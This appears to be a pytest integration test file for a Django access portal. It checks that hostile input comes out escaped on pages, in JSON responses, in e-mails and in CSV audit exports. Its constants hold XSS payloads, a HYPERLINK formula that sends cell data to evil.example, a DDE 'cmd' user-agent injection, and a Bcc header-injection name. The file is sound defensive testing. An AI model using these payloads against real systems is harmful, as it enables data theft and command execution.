"""Hostile justification, ticket, display name and user agent come out inert on every page, e-mail and export."""

import csv
import io

import pytest
from django.core import mail

from portal.access import services
from portal.access.models import AccessRequest
from portal.accounts.models import Profile
from tests.security.conftest import client_for
from tests.support.personas import make_user

pytestmark = [pytest.mark.integration, pytest.mark.django_db]

SCRIPT = "<script>alert(1)</script>"
IMAGE = '"><img src=x onerror=alert(2)>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
JUSTIFICATION = f"{FORMULA} {SCRIPT} {IMAGE} because the export broke"
TICKET = f"'><svg onload=alert(3)>{SCRIPT}"[:64]
DISPLAY_NAME = f"Mallory {SCRIPT}{IMAGE}"
USER_AGENT = "+cmd|' /C calc'!A0"
RAW = [SCRIPT, "<img src=x", "<svg onload", "onerror=alert(2)>"]


@pytest.fixture
def hostile(alice, bob, carol, catalog, eager_tasks, django_capture_on_commit_callbacks):
    """alice, renamed by her directory entry, asks for a role with hostile text; bob denies it."""
    Profile.objects.filter(user=alice).update(display_name=DISPLAY_NAME)
    alice.first_name = DISPLAY_NAME[:150]
    alice.save()
    mallory = make_user("erin")
    Profile.objects.filter(user=mallory).update(display_name=DISPLAY_NAME)
    client = client_for(alice, HTTP_USER_AGENT=USER_AGENT)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            "/api/v1/requests",
            {"role": "orders-readwrite", "justification": JUSTIFICATION, "ticket": TICKET, "duration_minutes": 30},
            content_type="application/json",
        )
        assert response.status_code == 201, response.content
        request = AccessRequest.objects.get(pk=response.json()["id"])
        services.request_deny(actor=bob, request_id=request.pk, comment=f"No {SCRIPT}")
    return request


def _assert_inert(html: str, where: str):
    for raw in RAW:
        assert raw not in html, f"{where} shows {raw!r} unescaped"


@pytest.mark.parametrize(
    ("persona", "path"),
    [
        ("alice", "/access/"),
        ("alice", "/access/requests/{id}/"),
        ("alice", "/access/requests/{id}/live/"),
        ("bob", "/access/requests/{id}/"),
        ("bob", "/access/review/"),
        ("carol", "/access/requests/{id}/"),
        ("carol", "/access/audit/"),
        ("carol", "/access/grants/"),
        ("carol", "/access/dashboard/"),
        ("carol", "/api/v1/requests/{id}?format=api"),
        ("carol", "/api/v1/audit?format=api"),
    ],
)
def test_hostile_text_is_escaped_on_every_page(hostile, alice, bob, carol, persona, path):
    client = client_for({"alice": alice, "bob": bob, "carol": carol}[persona])

    response = client.get(path.format(id=hostile.pk))

    assert response.status_code == 200
    _assert_inert(response.content.decode(), path)


def test_the_request_page_does_show_the_hostile_text_as_text(hostile, bob):
    html = client_for(bob).get(f"/access/requests/{hostile.pk}/").content.decode()

    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


def test_the_json_api_returns_the_text_as_data_with_a_json_content_type(hostile, bob):
    response = client_for(bob).get(f"/api/v1/requests/{hostile.pk}")

    assert response["Content-Type"] == "application/json"
    assert response.json()["justification"] == JUSTIFICATION
    assert response["X-Content-Type-Options"] == "nosniff"


def test_e_mails_carry_the_text_as_plain_text_with_no_injected_header(hostile):
    assert mail.outbox, "the approvers and the requester are told"
    for message in mail.outbox:
        assert "\n" not in message.subject and "\r" not in message.subject
        assert not getattr(message, "alternatives", None), "an HTML part would need escaping"
        assert message.content_subtype == "plain"


def test_a_name_with_a_line_break_cannot_add_an_e_mail_header(
    alice, bob, catalog, eager_tasks, django_capture_on_commit_callbacks
):
    # The subject names the requester by UPN; the directory is trusted, but not to that point.
    Profile.objects.filter(user=alice).update(
        upn="alice@contoso.example\r\nBcc: mallory@evil.example", display_name="Alice\r\nBcc: mallory@evil.example"
    )

    with django_capture_on_commit_callbacks(execute=True):
        services.request_create(actor=alice, role="orders-readwrite", justification="Investigate the order export")

    assert mail.outbox
    for message in mail.outbox:
        assert "mallory@evil.example" not in message.bcc
        assert "mallory@evil.example" not in str(message.message()["Bcc"] or "")


@pytest.mark.parametrize("path", ["/api/v1/audit?format=csv", "/access/audit/export.csv"])
def test_no_csv_cell_starts_a_formula(hostile, carol, path):
    response = client_for(carol).get(path)
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()

    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]

    assert any(USER_AGENT in cell for cell in cells), "the hostile user agent is exported"
    starts = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert starts == []
